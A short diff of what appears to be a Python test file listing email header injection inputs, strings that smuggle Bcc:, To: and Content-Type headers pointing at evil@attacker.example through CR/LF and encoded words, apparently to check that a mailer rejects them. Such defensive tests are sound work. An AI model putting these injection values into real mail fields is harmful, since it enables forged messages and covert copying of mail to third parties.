@@ -25,7 +25,7 @@ FROM = "Cluster planning <noreply@cluster-planning.example>"
 TO = "strategy@sisaket.example"
 EVIL = "Bcc: evil@attacker.example"
 INJECTIONS = [f"x\r\n{EVIL}", f"x\n{EVIL}", f"x\r{EVIL}", f"x\r\n\r\n{EVIL}",
-              f"x\u2028{EVIL}", f"x\x0b\x0c\x85{EVIL}", f"x\r\nTo: evil@attacker.example",
+              f"x\u2028{EVIL}", f"x\x0b\x0c\x85{EVIL}", "x\r\nTo: evil@attacker.example",
               "x\r\nContent-Type: text/html\r\n\r\n<b>forged</b>",
               # RFC 2047 encoded words the email package would decode into CR/LF (gh-121650)
               "=?utf-8?q?=0D=0ABcc:_evil@attacker.example?=",
